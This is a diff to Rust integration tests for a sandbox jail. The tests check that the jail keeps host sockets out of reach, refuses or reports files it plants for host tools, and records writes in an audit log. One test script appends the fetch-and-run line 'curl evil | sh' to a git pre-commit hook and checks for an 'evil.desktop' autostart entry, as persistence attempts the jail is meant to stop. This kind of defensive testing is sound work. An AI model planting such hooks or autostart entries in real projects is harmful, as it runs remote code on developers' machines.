@@ -144,9 +144,14 @@ async fn no_host_socket_is_reachable_from_the_root_jail_however_and_whenever_it_
     // The jail's environment is clean: the script is a file of the project.
     std::fs::write(project.0.join("try.py"), TRY_SOCKETS).unwrap();
     std::fs::set_permissions(project.0.join("try.py"), std::fs::Permissions::from_mode(0o644)).unwrap();
+    // A socket in the folder the command may write, there at start: listed, and hidden.
+    let listed = project.0.join("listed.sock");
+    let _listed = std::os::unix::net::UnixListener::bind(&listed).unwrap();
+    std::fs::set_permissions(&listed, std::fs::Permissions::from_mode(0o777)).unwrap();
     let script = format!(
-        "python3 try.py {} && python3 try.py {}",
+        "python3 try.py {} '{}' && python3 try.py {}",
         shell_words(&tried[..7]),
+        listed.display(),
         shell_words(&tried[7..])
     );
     let mut c = w.net.enter(&w.net.gw, BIN);
@@ -163,6 +168,11 @@ async fn no_host_socket_is_reachable_from_the_root_jail_however_and_whenever_it_
     assert!(out.status.success(), "{text}{}", String::from_utf8_lossy(&out.stderr));
     assert!(!text.contains("REACHED"), "{text}");
     assert_eq!(text.matches(" absent").count(), 12, "{text}");
+    // The empty file shown in its place: not a socket, and not writable (EACCES).
+    assert!(
+        text.contains(&format!("refused {} PermissionError exists", listed.display())),
+        "{text}"
+    );
     assert!(
         !log.exists(),
         "a host socket took a connection: {:?}",
@@ -243,7 +253,6 @@ async fn cordons_files_named_by_relative_paths_are_hidden_where_they_are() {
     assert!(std::fs::read_dir(etc.0.join("certs")).unwrap().next().is_some());
     let after: Vec<bool> = ["/certs", "/state"].iter().map(|p| Path::new(p).exists()).collect();
     assert_eq!(before, after, "the jail made /certs or /state on the host's root");
-    assert_eq!(after, [false, false]);
 }
 
 #[tokio::test(flavor = "multi_thread")]
@@ -263,6 +272,8 @@ async fn what_the_root_jail_plants_for_the_hosts_tools_is_refused_or_reported() 
         .unwrap();
     assert!(ok.success());
     crate::jail_user::chown_r(&project.0, uid, gid);
+    let autostart = Path::new(&home).join(".config/autostart/evil.desktop");
+    let _ = std::fs::remove_file(&autostart);
     let bashrc = Path::new(&home).join(".bashrc");
     let bashrc_before = std::fs::read(&bashrc).unwrap_or_default();
     let script = "echo 'curl evil | sh' >> .git/hooks/pre-commit && echo hook=written || echo hook=refused
@@ -306,7 +317,7 @@ echo home=$HOME";
             .contains("fsmonitor")
     );
     assert_eq!(std::fs::read(&bashrc).unwrap_or_default(), bashrc_before);
-    assert!(!Path::new(&home).join(".config/autostart/evil.desktop").exists());
+    assert!(!autostart.exists());
     // What was written is reported, with its hash, on stderr and in the audit.
     let audit = std::fs::read_to_string(w.path("audit.log")).unwrap();
     for (file, content) in [
